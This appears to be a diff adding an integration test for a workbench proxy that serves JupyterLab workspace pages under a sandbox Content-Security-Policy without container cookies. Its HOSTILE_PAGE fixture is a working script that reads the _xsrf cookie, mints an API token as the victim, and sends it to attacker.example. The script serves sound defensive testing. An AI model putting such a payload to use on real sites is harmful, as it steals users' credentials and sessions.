@@ -1,0 +1,66 @@
+"""A workspace's pages, relayed on this server's origin by the real proxy from a real
+workspace container: what the container serves runs sandboxed (an opaque origin, without
+this server's cookies, storage or API), and the container's own policies and cookies never
+reach the browser. JupyterLab's application pages stay on this origin (it cannot run
+sandboxed: workbench_ext/proxy.py), framed by this server only."""
+
+from __future__ import annotations
+
+import httpx
+import pytest
+
+from tests.integration.conftest import Lab, jp_base_url, jp_server_config, lab
+from tests.integration.test_workspace_proxy import login
+from workbench_ext.proxy import APP_POLICY, SANDBOX, route
+
+pytestmark = [pytest.mark.docker, pytest.mark.slow]
+__all__ = ["jp_base_url", "jp_server_config", "lab"]  # the fixtures, taken as they are
+
+#: a page a workspace's user leaves for a member to open: with this server's cookies it
+#: would read the login's _xsrf and mint a token as the member
+HOSTILE_PAGE = """<html><body><script>
+const xsrf = document.cookie.match(/_xsrf=([^;]+)/)[1];
+fetch("/wb/workbench/api/v1/tokens", {method: "POST", headers: {"X-XSRFToken": xsrf},
+  body: JSON.stringify({name: "stolen"})}).then(r => r.text()).then(t =>
+  fetch("http://attacker.example/?" + encodeURIComponent(t)));
+</script></body></html>"""
+
+
+async def test_a_workspace_page_runs_sandboxed_without_the_containers_headers(lab: Lab):
+    ws_id = lab.create(lab.owner)
+    await lab.start(lab.owner, ws_id)
+    await lab.wait_ready(ws_id)
+    async with lab.client() as browser:
+        xsrf = await login(lab, browser)
+        r = await browser.put(
+            lab.url(ws_id, "api/contents/evil.html"),
+            json={"type": "file", "format": "text", "content": HOSTILE_PAGE},
+            headers={"X-XSRFToken": xsrf},
+        )
+        assert r.status_code == 201, r.text
+        assert r.headers["Content-Security-Policy"] == SANDBOX  # an API answer too
+
+        # the container answers with policies of its own (and, on its pages, cookies)
+        upstream, token = route(lab.wb, lab.owner.username, ws_id)
+        prefix = f"http://{upstream}/wb/workbench/proxy/workspaces/{ws_id}/"
+        async with httpx.AsyncClient() as direct:
+            own = await direct.get(f"{prefix}files/evil.html", params={"token": token})
+            own_lab = await direct.get(f"{prefix}lab", params={"token": token})
+        assert own.status_code == 200 and "Content-Security-Policy" in own.headers
+        assert own.headers["Content-Security-Policy"] != SANDBOX
+        assert "Content-Security-Policy" in own_lab.headers
+
+        page = await browser.get(lab.url(ws_id, "files/evil.html"))
+        assert page.status_code == 200 and "document.cookie" in page.text
+        assert page.headers.get_list("Content-Security-Policy") == [SANDBOX]
+        assert "allow-same-origin" not in SANDBOX
+        assert "Content-Security-Policy-Report-Only" not in page.headers
+        assert "set-cookie" not in page.headers
+
+        app = await browser.get(lab.url(ws_id, "lab"))
+        assert app.status_code == 200 and "JupyterLab" in app.text
+        assert app.headers.get_list("Content-Security-Policy") == [APP_POLICY]
+        assert "report-uri" not in app.headers["Content-Security-Policy"]
+        assert "set-cookie" not in app.headers
+        if "set-cookie" in own_lab.headers:  # what the container would have set
+            assert "set-cookie" not in app.headers
